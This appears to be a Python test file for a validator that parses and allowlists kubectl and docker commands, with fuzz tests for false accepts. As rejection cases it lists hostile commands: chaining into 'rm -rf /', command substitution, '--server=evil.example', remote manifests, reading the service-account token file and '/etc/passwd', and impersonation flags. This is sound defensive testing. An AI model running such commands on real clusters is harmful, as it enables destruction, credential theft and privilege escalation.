"""Command scope: every parse rule, allowlist matching, and fuzzing for false accepts.

The fuzz tests judge accepted commands with an oracle written independently of the module
(plain string tests per allowlisted shape), so a bug in the matcher cannot also hide in the
judgement.
"""

from __future__ import annotations

import shlex
import string
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wingman.errors import ConfigError, ScopeViolation
from wingman.scope import (
    CONNECTION_FLAGS,
    KUBECTL_VERBS,
    LOCAL_FILE_FLAGS,
    LOCAL_VERBS,
    MAX_ARGUMENTS,
    MAX_COMMAND_BYTES,
    SERVING_VERBS,
    VALUE_FLAGS,
    Allowlist,
    AllowlistPattern,
    check,
    command_sha256,
    executor_for,
    parse,
)

ALLOWLIST = Allowlist.from_patterns(
    [
        "kubectl rollout restart deployment/*",
        "kubectl scale deployment/{name} --replicas={int:0..50}",
        "docker restart *",
    ]
)


def violation(command: str, reason: str) -> ScopeViolation:
    with pytest.raises(ScopeViolation) as info:
        parse(command)
    assert info.value.reason == reason, f"expected {reason}, got {info.value.reason}"
    return info.value


# ------------------------------------------------------------------------------------------
# parse: accepted shapes


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("kubectl get pods", ["kubectl", "get", "pods"]),
        ("  kubectl   get  pods  ", ["kubectl", "get", "pods"]),
        ("kubectl get pods -l 'app=web'", ["kubectl", "get", "pods", "-l", "app=web"]),
        ('docker logs "my container"', ["docker", "logs", "my container"]),
        ("kubectl annotate pod/x 'note=a;b|c&d'", ["kubectl", "annotate", "pod/x", "note=a;b|c&d"]),
        (
            "kubectl get pods -o 'jsonpath={.items[*].metadata.name}'",
            ["kubectl", "get", "pods", "-o", "jsonpath={.items[*].metadata.name}"],
        ),
        ("kubectl get 'price$'", ["kubectl", "get", "price$"]),
        ("kubectl label pod/x a'b c'd", ["kubectl", "label", "pod/x", "ab cd"]),
        ("kubectl get ''", ["kubectl", "get", ""]),
        ('docker run "a\\"b" "c\\\\d" "e\\f"', ["docker", "run", 'a"b', "c\\d", "e\\f"]),
        ("kubectl get pods#x", None),  # '#' unquoted: rejected below, listed for contrast
    ],
)
def test_parse_accepts_plain_and_quoted_commands(command: str, argv: list[str] | None) -> None:
    if argv is None:
        violation(command, "ShellMetacharacter")
        return
    assert parse(command) == argv
    assert shlex.split(command) == argv


# ------------------------------------------------------------------------------------------
# parse: each rule


@pytest.mark.parametrize("command", ["", " ", "     "])
def test_empty_commands(command: str) -> None:
    violation(command, "EmptyCommand")


def test_length_limit_is_in_utf8_bytes() -> None:
    exact = "kubectl get " + "a" * (MAX_COMMAND_BYTES - len("kubectl get "))
    assert len(parse(exact)[2]) == MAX_COMMAND_BYTES - 12
    violation(exact + "a", "CommandTooLong")
    violation("x" * 10_000_000, "CommandTooLong")
    # 2000 characters but 6000 bytes: too long, before the character rules are consulted
    violation("kubectl " + "\u202e" * 2000, "CommandTooLong")


CONTROL = [chr(c) for c in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]]


@pytest.mark.parametrize("char", CONTROL, ids=[f"U+{ord(c):04X}" for c in CONTROL])
def test_control_characters_are_forbidden(char: str) -> None:
    exc = violation(f"kubectl get{char}pods", "ForbiddenCharacter")
    assert f"U+{ord(char):04X}" in str(exc) and "index 11" in str(exc)
    violation(f"kubectl get '{char}'", "ForbiddenCharacter")


UNICODE = {
    "zero-width space": "\u200b",
    "right-to-left override": "\u202e",
    "left-to-right isolate": "\u2066",
    "fullwidth semicolon": "\uff1b",
    "greek question mark": "\u037e",
    "cyrillic a": "\u0430",
    "nbsp": "\u00a0",
    "fullwidth k": "\uff4b",
    "bom": "\ufeff",
    "lone surrogate": "\ud800",
    "emoji": "\U0001f600",
}


@pytest.mark.parametrize("char", UNICODE.values(), ids=list(UNICODE))
def test_non_ascii_is_rejected_with_code_point_and_index(char: str) -> None:
    exc = violation(f"kubectl get p{char}ds", "NonAsciiCharacter")
    assert f"U+{ord(char):04X}" in str(exc)
    assert "index 13" in str(exc)
    violation(f"kubectl get 'p{char}ds'", "NonAsciiCharacter")


UNQUOTED_FORBIDDEN = list(";&|$`()<>*?[]{}~#!\\")


@pytest.mark.parametrize("char", UNQUOTED_FORBIDDEN)
def test_unquoted_metacharacters_are_rejected(char: str) -> None:
    for command in [f"kubectl get pods{char}", f"kubectl get {char}pods", f"kubectl {char} get"]:
        violation(command, "ShellMetacharacter")


@pytest.mark.parametrize("char", [c for c in UNQUOTED_FORBIDDEN if c not in "$`\\"])
def test_quoted_metacharacters_are_literal(char: str) -> None:
    assert parse(f"kubectl get 'a{char}b'") == ["kubectl", "get", f"a{char}b"]
    assert parse(f'kubectl get "a{char}b"') == ["kubectl", "get", f"a{char}b"]


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get '$(id)'",
        'kubectl get "$(id)"',
        "kubectl get '${HOME}'",
        "kubectl get '`id`'",
        'kubectl get "`id`"',
        "kubectl get 'a`'",
        'kubectl get "$HOME"',  # a shell expands $ inside double quotes
        'kubectl get "\\$x"',
        "kubectl get pods; rm -rf /",
        "kubectl get pods && rm -rf /",
        "kubectl get pods | sh",
        "kubectl get pods > /etc/passwd",
        "kubectl get $(id)",
        "kubectl get pods\\;",
    ],
)
def test_substitution_and_chaining_are_rejected(command: str) -> None:
    violation(command, "ShellMetacharacter")


@pytest.mark.parametrize("command", ["kubectl get 'pods", 'kubectl get "pods', "kubectl 'a'b'"])
def test_unbalanced_quotes_are_malformed(command: str) -> None:
    violation(command, "Malformed")


def test_argument_limit() -> None:
    # a built-in verb first: 'kubectl a' names no kubectl command (UnknownVerb)
    assert len(parse("kubectl get" + " a" * (MAX_ARGUMENTS - 2))) == MAX_ARGUMENTS
    violation("kubectl get" + " a" * (MAX_ARGUMENTS - 1), "TooManyArguments")


def test_parse_rejects_non_strings() -> None:
    with pytest.raises(ScopeViolation):
        parse(b"kubectl get pods")  # type: ignore[arg-type]


# ------------------------------------------------------------------------------------------
# parse: kubectl's flags, as kubectl reads them


@pytest.mark.parametrize(("command", "flag"), [
    ("kubectl get pods --as=system:admin", "--as"),
    ("kubectl get pods --as system:admin", "--as"),
    ("kubectl --as=system:admin get pods", "--as"),
    ("kubectl get pods --as-group=system:masters", "--as-group"),
    ("kubectl get pods --as_group=system:masters", "--as-group"),  # kubectl reads _ as -
    ("kubectl get pods --insecure_skip_tls_verify", "--insecure-skip-tls-verify"),
    ("kubectl get pods --insecure-skip-tls-verify=true", "--insecure-skip-tls-verify"),
    ("kubectl --context prod delete pod web", "--context"),
    ("kubectl delete pod web --cluster=prod", "--cluster"),
    ("kubectl delete pod web --user=admin", "--user"),
    ("kubectl --kubeconfig=kubeconfig get pods", "--kubeconfig"),
    ("kubectl get pods --token=abc", "--token"),
    ("kubectl get pods --certificate-authority=ca.crt", "--certificate-authority"),
    ("kubectl get pods --server=evil.example:443", "--server"),
    ("kubectl -s evil.example:443 get pods", "-s (--server)"),
    ("kubectl get pods -sevil.example:443", "-s (--server)"),
    ("kubectl get pods -s=evil.example:443", "-s (--server)"),
    # combined short flags: after a flag that takes no value kubectl reads the next letter
    ("kubectl get pods -As evil.example:443", "-s (--server)"),
    ("kubectl logs web -fs evil.example:443", "-s (--server)"),  # -f is --follow in logs
    ("kubectl get pods -is=evil.example:443", "-s (--server)"),
    # a '--' right after a flag is that flag's value: the flags go on after it
    ("kubectl get pods -l -- --as=system:admin", "--as"),
    ("kubectl get pods --kuberc=prefs", "--kuberc"),
    # kubectl takes --kuberc= out of any word, before it parses flags
    ("kubectl get pods -l app--kuberc=prefs", "--kuberc"),
    ("kubectl get pods --selector=--kuberc=prefs", "--kuberc"),
])
def test_a_flag_that_changes_whom_kubectl_talks_to_or_as_whom_never_runs(
        command: str, flag: str) -> None:
    exc = violation(command, "ConnectionFlag")
    assert flag in exc.message
    assert ("combines short flags" in exc.message) == command.startswith(
        ("kubectl get pods -As", "kubectl logs web -fs", "kubectl get pods -is"))
    assert "evil" not in exc.message and "prefs" not in exc.message
    with pytest.raises(ScopeViolation) as info:  # whatever the allowlist says
        check(command, approved=[command], allowlist=ALLOWLIST)
    assert info.value.reason == "ConnectionFlag"


@pytest.mark.parametrize("command", [
    "kubectl exec web -c app -- nginx -s reload",  # after '--': the program's own argv
    "kubectl get -- pods --as=x",
    "kubectl get pods -lapp=sidecars",  # -l takes the rest of the word
    "kubectl get pods -ojsonpath=status",
    "kubectl get pods --selector=--as=x",  # the value of --selector
    "kubectl get pods --server-print=false",
    "kubectl get pods --as-current-user",  # another flag, not --as
    "docker restart --as",  # docker: only kubectl's flags are read
])
def test_words_that_only_look_like_those_flags_are_not_refused(command: str) -> None:
    assert parse(command) == shlex.split(command)


@pytest.mark.parametrize(("command", "flag"), [
    ("kubectl get pods -n", "-n"),
    ("kubectl get pods --namespace", "--namespace"),
    ("kubectl -n", "-n"),
    ("kubectl get pods -An", "-n"),
    ("kubectl label deployment/web a=b --field-manager", "--field-manager"),
    ("kubectl label deployment/web a=b --field_manager", "--field-manager"),
    ("kubectl get pods -l", "-l"),
    ("kubectl get pods -o", "-o"),
    ("kubectl get pods -v", "-v"),
])
def test_a_command_ending_in_a_flag_that_needs_a_value_is_refused(command: str,
                                                                  flag: str) -> None:
    # kubectl refuses it ('flag needs an argument'); the preview would hand the flag its own
    # --v=0 and preview another command
    exc = violation(command, "MissingFlagValue")
    assert f"the flag {flag}," in exc.message


@pytest.mark.parametrize("command", [
    "kubectl delete pod web --now",
    "kubectl delete deployment/web --cascade",
    "kubectl get pods -A",
    "kubectl logs web -f",  # --follow here, --filename elsewhere: not refused
    "kubectl get pods -n=",
    "kubectl get pods -n apps",
])
def test_a_trailing_flag_without_a_value_is_not_refused(command: str) -> None:
    assert parse(command) == shlex.split(command)


def test_the_flag_tables_agree_with_kubectls_grammar() -> None:
    from wingman.review import commands as grammar

    known = grammar.KUBECTL_GLOBAL_VALUE_FLAGS | grammar.KUBECTL_GLOBAL_BOOL_FLAGS
    assert CONNECTION_FLAGS - {"-s"} <= known
    # a flag refused for its missing value takes a value in every command that has it
    booleans = grammar.KUBECTL_BOOL_FLAGS.union(*grammar.KUBECTL_COMMAND_BOOL.values())
    assert VALUE_FLAGS <= grammar.KUBECTL_VALUE_FLAGS
    assert not VALUE_FLAGS & booleans
    for letter in "nvloceLk":
        violation(f"kubectl get pods -{letter}", "MissingFlagValue")
        long = grammar.KUBECTL_SHORT[f"-{letter}"]
        assert long in grammar.KUBECTL_VALUE_FLAGS and long not in booleans
        for action, table in grammar.KUBECTL_COMMAND_SHORT.items():  # where a command differs
            long = table.get(f"-{letter}", "--namespace")
            assert long in grammar.KUBECTL_VALUE_FLAGS, (letter, action)
            assert long not in grammar.KUBECTL_COMMAND_BOOL.get(action, ()), (letter, action)


# ------------------------------------------------------------------------------------------
# command_sha256 and executors


def test_command_sha256_is_hex_of_utf8() -> None:
    assert command_sha256("abc") == (
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    )
    with pytest.raises(ScopeViolation):
        command_sha256("a\ud800")


@pytest.mark.parametrize(("argv0", "executor"), [("kubectl", "kubernetes"), ("docker", "docker")])
def test_executor_for_known_programs(argv0: str, executor: str) -> None:
    assert executor_for([argv0, "x"]) == executor


@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["/usr/bin/kubectl", "get"],
        ["./kubectl"],
        ["kubectl.exe"],
        ["Kubectl"],
        ["kubectl "],
        ["sh", "-c", "kubectl get pods"],
        ["env", "kubectl"],
        ["python"],
        [""],
    ],
)
def test_executor_for_rejects_everything_else(argv: list[str]) -> None:
    with pytest.raises(ScopeViolation) as info:
        executor_for(argv)
    assert info.value.reason in {"UnsupportedExecutor", "EmptyCommand"}
    if argv:
        assert info.value.reason == "UnsupportedExecutor"


# ------------------------------------------------------------------------------------------
# Allowlist matching


@pytest.mark.parametrize(
    "command",
    [
        "kubectl rollout restart deployment/web",
        "kubectl rollout restart deployment/web-2.v1",
        "kubectl rollout restart 'deployment/web'",
        "kubectl scale deployment/web --replicas=0",
        "kubectl scale deployment/web --replicas=50",
        "kubectl scale deployment/a.b-c --replicas=7",
        "docker restart api_1",
    ],
)
def test_allowlisted_commands_pass(command: str) -> None:
    assert check(command, approved=[command], allowlist=ALLOWLIST) == shlex.split(command)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl rollout restart deployment/web extra",
        "kubectl rollout restart deployment/web --namespace=kube-system",
        "kubectl rollout restart",
        "kubectl rollout restart deployment/",
        "kubectl rollout restart deployment/a/b",
        "kubectl rollout restart deployment/..",
        "kubectl rollout restart deployment/.",
        "kubectl rollout restart deployment/-x",
        "kubectl rollout restart statefulset/web",
        "kubectl rollout restart 'deployment/web x'",
        "kubectl rollout restart 'deployment/a;b'",
        "kubectl rollout restart 'deployment/*'",
        "kubectl Rollout restart deployment/web",
        "docker restart --help",
        "docker restart -t",
        "docker restart ''",
        "docker restart '$x'",
        "docker restart a/b",
        "docker stop web",
        "kubectl scale deployment/web --replicas=51",
        "kubectl scale deployment/web --replicas=-1",
        "kubectl scale deployment/web --replicas=05",
        "kubectl scale deployment/web --replicas=+5",
        "kubectl scale deployment/web --replicas=5.0",
        "kubectl scale deployment/web --replicas=",
        "kubectl scale deployment/web --replicas=99999999999999999999999",
        "kubectl scale deployment/Web --replicas=1",
        "kubectl scale deployment/-web --replicas=1",
        "kubectl scale deployment/web- --replicas=1",
        "kubectl scale deployment/" + "a" * 254 + " --replicas=1",
        "kubectl scale deployment/web --namespace=kube-system",
        "kubectl scale --replicas=1 deployment/web",
    ],
)
def test_commands_outside_the_allowlist_are_rejected(command: str) -> None:
    with pytest.raises(ScopeViolation) as info:
        check(command, approved=[command], allowlist=ALLOWLIST)
    # kubectl's verbs are case-sensitive: 'Rollout' is no built-in command but a plugin's name
    expected = "UnknownVerb" if command.startswith("kubectl Rollout") else "NotInAllowlist"
    assert info.value.reason == expected
    assert command not in str(info.value)


def test_wildcard_rule_is_per_argument_and_flag_safe() -> None:
    allow = Allowlist.from_patterns(
        ["kubectl get pods -l app=*", "kubectl logs *-canary", "kubectl get pods --selector=*"]
    )
    assert allow.matches(["kubectl", "get", "pods", "-l", "app=web"])
    assert not allow.matches(["kubectl", "get", "pods", "-l", "app=-x"])
    assert allow.matches(["kubectl", "get", "pods", "--selector=-x"])  # token starts with '-'
    assert allow.matches(["kubectl", "logs", "web-canary"])
    assert not allow.matches(["kubectl", "logs", "-canary"])
    assert not allow.matches(["kubectl", "logs", "--x-canary"])
    assert not allow.matches(["kubectl", "get", "pods", "-l", "app="])


def test_longest_name_is_accepted() -> None:
    name = "a" * 253
    assert ALLOWLIST.matches(["kubectl", "scale", f"deployment/{name}", "--replicas=1"])


def test_quoted_wildcards_in_patterns_are_literal() -> None:
    allow = Allowlist.from_patterns(["kubectl get pods -o 'jsonpath={.items[*].metadata.name}'"])
    cmd = "kubectl get pods -o 'jsonpath={.items[*].metadata.name}'"
    assert check(cmd, approved=[cmd], allowlist=allow)[-1] == "jsonpath={.items[*].metadata.name}"
    assert not allow.matches(["kubectl", "get", "pods", "-o", "jsonpath={.items[x].metadata.name}"])
    assert not allow.matches(["kubectl", "get", "pods", "-o", "json"])


def test_empty_allowlist_allows_nothing() -> None:
    with pytest.raises(ScopeViolation) as info:
        check("kubectl get pods", approved=["kubectl get pods"], allowlist=Allowlist())
    assert info.value.reason == "NotInAllowlist"


@pytest.mark.parametrize(
    "pattern",
    [
        "",
        "   ",
        "* get pods",
        "kube* get",
        "/usr/bin/kubectl get pods",
        "python -c *",
        "sh -c *",
        "kubectl get *-*",
        "kubectl get {name}-*",
        "kubectl scale --replicas={int:5..1}",
        "kubectl scale --replicas={int:-1..5}",
        "kubectl scale --replicas={int:1..5",
        "kubectl scale --replicas={float}",
        "kubectl scale --replicas={int: 1..5}",
        "kubectl get }",
        "kubectl get pods; rm",
        "kubectl get pods?",
        "kubectl get 'pods",
        "kubectl get\tpods",
        "kubectl get p\u043eds",
        "kubectl get '$(id)'",
    ],
)
def test_bad_patterns_are_configuration_errors(pattern: str) -> None:
    with pytest.raises(ConfigError) as info:
        Allowlist.from_patterns(["kubectl get pods", pattern])
    assert "allowlist pattern" in str(info.value)


@pytest.mark.parametrize(("pattern", "says"), [
    ("kubectl get pods -n apps -*", "flag's name"),
    ("kubectl get pods -n apps --*", "flag's name"),
    ("kubectl get pods -n apps --a*", "flag's name"),
    ("kubectl get pods -n apps -A*", "flag's name"),
    ("kubectl get pods -n apps --{name}", "flag's name"),
    ("kubectl --context=prod get pods", "--context"),
    ("kubectl get pods --as=*", "--as"),
    ("kubectl get pods --as_group=*", "--as-group"),
    ("kubectl get pods -s *", "-s"),
])
def test_patterns_that_let_a_command_choose_its_flag_or_identity_are_refused(
        pattern: str, says: str) -> None:
    # before, 'kubectl get pods -n apps -*' admitted --namespace=kube-system (kubectl takes
    # the last -n) and --server=evil.example:443
    with pytest.raises(ConfigError) as info:
        Allowlist.from_patterns([pattern])
    assert says in str(info.value)


def test_a_wildcard_after_a_flag_is_its_value() -> None:
    allow = Allowlist.from_patterns(["kubectl get pods -l*", "kubectl get pods -n=*",
                                     "kubectl get pods -lapp=*", "kubectl get pods -Al*"])
    assert allow.matches(["kubectl", "get", "pods", "-lapp=web"])
    assert allow.matches(["kubectl", "get", "pods", "-n=apps"])


def test_from_patterns_refuses_a_bare_string() -> None:
    with pytest.raises(ConfigError):
        Allowlist.from_patterns("kubectl get pods")


def test_pattern_keeps_its_source() -> None:
    pattern = AllowlistPattern.parse("docker restart *")
    assert pattern.source == "docker restart *" and pattern.matches(["docker", "restart", "x"])


# ------------------------------------------------------------------------------------------
# check: approval is byte-for-byte


def test_approved_must_be_byte_identical() -> None:
    approved = ["kubectl rollout restart deployment/web"]
    for other, hint in [
        ("kubectl rollout restart deployment/web ", True),
        ("kubectl  rollout restart deployment/web", True),
        ("KUBECTL rollout restart deployment/web", True),
        ("kubectl rollout restart deployment/api", False),
        ("kubectl rollout restart 'deployment/web'", False),
    ]:
        with pytest.raises(ScopeViolation) as info:
            check(other, approved=approved, allowlist=ALLOWLIST)
        assert info.value.reason == "CommandMismatch"
        assert ("whitespace or letter case" in str(info.value)) is hint
    assert check(approved[0], approved=approved, allowlist=ALLOWLIST)[-1] == "deployment/web"


def test_check_refuses_a_string_as_the_approved_list() -> None:
    with pytest.raises(TypeError):
        check("kubectl", approved="kubectl rollout restart deployment/web", allowlist=ALLOWLIST)


def test_an_approved_but_malformed_command_still_fails_parsing() -> None:
    command = "kubectl rollout restart deployment/web; reboot"
    with pytest.raises(ScopeViolation) as info:
        check(command, approved=[command], allowlist=ALLOWLIST)
    assert info.value.reason == "ShellMetacharacter"


# ------------------------------------------------------------------------------------------
# Fuzzing: zero false accepts

STAR = set(string.ascii_letters + string.digits + "._:@%+=,-")
NAME_CHARS = set(string.ascii_lowercase + string.digits + "-.")


def _star_ok(text: str) -> bool:
    return bool(text) and text not in (".", "..") and text[0] != "-" and set(text) <= STAR


def _name_ok(text: str) -> bool:
    if not 0 < len(text) <= 253 or not set(text) <= NAME_CHARS:
        return False
    labels = text.split(".")
    return all(lab and lab[0] != "-" and lab[-1] != "-" for lab in labels)


def oracle(argv: list[str]) -> bool:
    """Independent statement of what ALLOWLIST allows."""
    if len(argv) == 4 and argv[:3] == ["kubectl", "rollout", "restart"]:
        return argv[3].startswith("deployment/") and _star_ok(argv[3][len("deployment/") :])
    if len(argv) == 4 and argv[:2] == ["kubectl", "scale"]:
        return (
            argv[2].startswith("deployment/")
            and _name_ok(argv[2][len("deployment/") :])
            and argv[3] in {f"--replicas={n}" for n in range(51)}
        )
    if len(argv) == 3 and argv[:2] == ["docker", "restart"]:
        return _star_ok(argv[2])
    return False


SHELL_SPECIAL = set(";&|$`()<>*?[]{}~#!\\")
HOSTILE = (
    list("kubectl rollout restart deployment/web scale --replicas=5 docker")
    + list(" '\"-/=.0123456789")
    + list(";&|$`()<>*?[]{}~#!\\")
    + ["\t", "\n", "\r", "\x00", "\x7f", "\x85", "\x9b"]
    + ["\u200b", "\u202e", "\uff1b", "\u037e", "\u0430", "\u00a0", "\u2066", "\ufeff", "\u0435"]
)
BASES = [
    "kubectl rollout restart deployment/web",
    "kubectl scale deployment/web --replicas=5",
    "docker restart web",
]


def assert_sound(command: str) -> None:
    """Whatever check() accepts must be plain ASCII, shell-inert and allowed by the oracle."""
    try:
        argv = check(command, approved=[command], allowlist=ALLOWLIST)
    except ScopeViolation:
        return
    assert all(0x20 <= ord(c) < 0x7F for c in command), ascii(command)
    assert not SHELL_SPECIAL & set(command), ascii(command)
    assert argv == shlex.split(command)
    assert oracle(argv), ascii(command)


@st.composite
def edited(draw: st.DrawFn, base: str | None = None) -> tuple[str, str]:
    original = base if base is not None else draw(st.sampled_from(BASES))
    text = original
    for _ in range(draw(st.integers(1, 4))):
        i = draw(st.integers(0, len(text)))
        op = draw(st.sampled_from(["insert", "replace", "delete", "duplicate"]))
        char = draw(st.sampled_from(HOSTILE))
        if op == "insert":
            text = text[:i] + char + text[i:]
        elif op == "replace":
            text = text[:i] + char + text[i + 1 :]
        elif op == "delete":
            text = text[:i] + text[i + 1 :]
        else:
            text = text[:i] + text[i:] + text[i:]
    return original, text


@settings(max_examples=500, deadline=None)
@given(st.text(st.sampled_from(HOSTILE), max_size=80))
def test_fuzz_random_command_lines_have_no_false_accepts(command: str) -> None:
    assert_sound(command)


@settings(max_examples=500, deadline=None)
@given(edited())
def test_fuzz_edited_commands_have_no_false_accepts(pair: tuple[str, str]) -> None:
    assert_sound(pair[1])


@settings(max_examples=500, deadline=None)
@given(edited())
def test_byte_edited_approved_commands_are_rejected(pair: tuple[str, str]) -> None:
    original, text = pair
    if text == original:
        return
    with pytest.raises(ScopeViolation) as info:
        check(text, approved=[original], allowlist=ALLOWLIST)
    assert info.value.reason == "CommandMismatch"


SAFE_ARG = st.text(
    st.sampled_from(string.ascii_letters + string.digits + " ._-/=:;|&*?[]{}()<>#!~'\"\\$"),
    max_size=12,
).filter(lambda a: "$(" not in a and "${" not in a)


@settings(max_examples=400, deadline=None)
@given(st.lists(SAFE_ARG, min_size=1, max_size=10))
def test_quoted_arguments_round_trip_exactly(argv: list[str]) -> None:
    """Any argv (without substitution look-alikes) survives shlex quoting unchanged."""
    # docker: kubectl's own flag rules (ConnectionFlag, MissingFlagValue) are tested apart
    command = "docker " + " ".join(shlex.quote(a) for a in argv)
    assert parse(command) == ["docker", *argv]


NEAR_MISS_CHARS = "abcxyzAZ0123456789-./=_:@%+, "


@st.composite
def near_miss_argv(draw: st.DrawFn) -> list[str]:
    """An allowlisted argv with some arguments cut and regrown from plausible characters."""
    argv = shlex.split(draw(st.sampled_from(BASES)))
    for i in range(len(argv)):
        if draw(st.booleans()):
            keep = draw(st.integers(0, len(argv[i])))
            tail = draw(st.text(st.sampled_from(NEAR_MISS_CHARS), max_size=5))
            argv[i] = argv[i][:keep] + tail
    if draw(st.integers(0, 4)) == 0:
        argv.insert(draw(st.integers(0, len(argv))), draw(st.sampled_from(["-n", "x", "--"])))
    return argv


@settings(max_examples=500, deadline=None)
@given(near_miss_argv(), st.booleans())
def test_fuzz_near_miss_argv_has_no_false_accepts(argv: list[str], quote_all: bool) -> None:
    """Plausible argv stress the matcher's edges, in both directions: accepted iff allowed."""
    # minimal quoting (shlex.quote leaves safe words bare), or every word single-quoted
    command = " ".join(f"'{a}'" if quote_all else shlex.quote(a) for a in argv)
    try:
        parsed = parse(command)
    except ScopeViolation as exc:  # kubectl's flag rules: never runs, so never allowed
        # a regrown verb is no built-in one (UnknownVerb), a flag grown before it is no
        # global option (FlagBeforeVerb)
        assert exc.reason in ("ConnectionFlag", "MissingFlagValue", "ServingVerb",
                              "FlagBeforeVerb", "UnknownVerb", "LocalVerb",
                              "LocalFile"), exc.reason
        assert not oracle(argv), ascii(command)
        return
    assert parsed == argv
    try:
        check(command, approved=[command], allowlist=ALLOWLIST)
    except ScopeViolation as exc:
        assert exc.reason == "NotInAllowlist"
        assert not oracle(argv), ascii(command)
    else:
        assert oracle(argv), ascii(command)


@pytest.mark.parametrize("command", [
    "kubectl proxy",
    "kubectl proxy --port=8001 --address=0.0.0.0",
    "kubectl -n apps proxy",  # flags before the verb
    "kubectl --namespace apps proxy",
    "kubectl -v 9 port-forward pod/web 8080:80",
    "kubectl port-forward -n apps svc/web 8080:80",
])
def test_a_command_that_serves_rights_or_a_port_never_runs(command: str) -> None:
    exc = violation(command, "ServingVerb")
    assert "never runs it" in exc.message
    with pytest.raises(ScopeViolation) as info:  # whatever the allowlist says
        check(command, approved=[command], allowlist=Allowlist.from_patterns([command]))
    assert info.value.reason == "ServingVerb"


@pytest.mark.parametrize("command", [
    "kubectl get pods -l proxy",  # the value of -l, not the verb
    "kubectl -n proxy get pods",  # a namespace named proxy
    "kubectl get service proxy",  # an object named proxy
    "kubectl logs port-forward",
])
def test_proxy_as_a_name_or_a_value_is_not_the_verb(command: str) -> None:
    assert parse(command)[0] == "kubectl"


# ------------------------------------------------------------------------------------------
# parse: nothing of the gateway pod's own (files, URLs, other programs)

TOKEN_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"


@pytest.mark.parametrize(("command", "flag"), [
    (f"kubectl create secret generic x -n apps --from-file={TOKEN_FILE}", "--from-file"),
    (f"kubectl create secret generic x -n apps --from-file {TOKEN_FILE}", "--from-file"),
    (f"kubectl create secret generic x -n apps --from_file=t={TOKEN_FILE}", "--from-file"),
    (f"kubectl create configmap x -n apps --from-env-file={TOKEN_FILE}", "--from-env-file"),
    ("kubectl apply -f https://evil.example/x.yaml -n apps", "-f (--filename)"),
    ("kubectl apply -f=https://evil.example/x.yaml", "-f (--filename)"),
    ("kubectl apply -fhttps://evil.example/x.yaml", "-f (--filename)"),
    ("kubectl apply -Rf manifests", "-f (--filename)"),  # -R, then -f
    ("kubectl delete --filename=x.yaml", "--filename"),
    ("kubectl delete --filename x.yaml", "--filename"),
    ("kubectl get pods -f x.yaml", "-f (--filename)"),  # -f is --filename outside logs
    ("kubectl apply -k github.com/org/repo", "-k (--kustomize)"),
    ("kubectl apply -kgithub.com/org/repo", "-k (--kustomize)"),
    ("kubectl delete --kustomize=overlays/prod", "--kustomize"),
    ("kubectl patch deployment web --patch-file=/etc/hostname", "--patch-file"),
    ("kubectl patch deployment web --patch_file /etc/hostname", "--patch-file"),
    (f"kubectl create secret tls x --cert={TOKEN_FILE} --key=k", "--cert"),
    (f"kubectl create secret tls x --key {TOKEN_FILE}", "--key"),
    ("kubectl debug pod/web --image=busybox --custom=/etc/hostname", "--custom"),
    ("kubectl cluster-info dump --output-directory=/tmp/dump", "--output-directory"),
    ("kubectl create deployment web --image=nginx --edit", "--edit"),
    ("kubectl get pods --log-file=/tmp/x", "--log-file"),  # klog's, in other kubectl versions
    ("kubectl logs web -f --filename=x.yaml", "--filename"),  # logs has no --filename
])
def test_a_flag_that_reads_or_writes_the_gateway_pods_files_never_runs(command: str,
                                                                       flag: str) -> None:
    exc = violation(command, "LocalFile")
    assert f"sets {flag}," in exc.message
    assert "kubectl patch" in exc.message  # says what to do instead
    assert "evil" not in exc.message and "/etc" not in exc.message and "/var" not in exc.message


@pytest.mark.parametrize("command", [
    f"kubectl get pods -o go-template-file={TOKEN_FILE}",
    f"kubectl get pods -ogo-template-file={TOKEN_FILE}",
    f"kubectl get pods -o=templatefile={TOKEN_FILE}",
    f"kubectl get pods --output jsonpath-file={TOKEN_FILE}",
    f"kubectl get pods --output=custom-columns-file={TOKEN_FILE}",
    f"kubectl get pods -o go-template-file --template={TOKEN_FILE}",
    f"kubectl get pods -Ao GO-Template-File={TOKEN_FILE}",  # combined, and any letter case
    f"kubectl create configmap x --from-literal=a=b --dry-run=client -o templatefile "
    f"--template {TOKEN_FILE}",
])
def test_an_output_format_that_reads_its_template_from_a_file_never_runs(command: str) -> None:
    exc = violation(command, "LocalFile")
    assert "inline" in exc.message and "/var" not in exc.message


@pytest.mark.parametrize(("command", "verb"), [
    ("kubectl cp apps/web:/etc/passwd passwd", "cp"),
    ("kubectl -n apps cp web:/tmp/x x", "cp"),
    ("kubectl config view --raw", "config"),
    ("kubectl kustomize github.com/org/repo", "kustomize"),
    ("kubectl plugin list", "plugin"),
    ("kubectl edit deployment/web -n apps", "edit"),
    ("kubectl diff -n apps", "diff"),
    ("kubectl apply edit-last-applied deployment/web", "apply edit-last-applied"),
    ("kubectl apply --prune edit-last-applied deployment/web", "apply edit-last-applied"),
])
def test_a_verb_that_works_on_local_state_or_runs_another_program_never_runs(
        command: str, verb: str) -> None:
    exc = violation(command, "LocalVerb")
    assert f"kubectl {verb} " in exc.message and "kubectl patch" in exc.message


@pytest.mark.parametrize("command", [
    "kubectl evil",  # kubectl runs kubectl-evil from PATH
    "kubectl evil -n apps",
    "kubectl Get pods",  # verbs are case-sensitive
    "kubectl __complete get pods",
    "kubectl -n apps evil",
    "kubectl create evil",  # kubectl runs kubectl-create-evil
    "kubectl create evil -n apps",
    "kubectl create -n apps evil web",
])
def test_a_verb_kubectl_does_not_have_built_in_never_runs(command: str) -> None:
    exc = violation(command, "UnknownVerb")
    assert "plugin" in exc.message and "evil" not in exc.message


@pytest.mark.parametrize("command", [
    "kubectl --accept-paths get proxy",  # kubectl takes 'get' as the flag's value: proxy runs
    "kubectl -i get cp web:/etc/passwd x",  # runs cp
    "kubectl -w get edit deployment/web",  # runs edit
    "kubectl -f logs get pods",  # -f is --filename here, reading the file 'logs'
    "kubectl -A get pods",
    "kubectl -An apps get pods",
    "kubectl --all-namespaces get pods",
])
def test_a_flag_before_the_verb_that_is_no_global_option_is_refused(command: str) -> None:
    exc = violation(command, "FlagBeforeVerb")
    assert "write the flag after the verb" in exc.message


@pytest.mark.parametrize("command", [
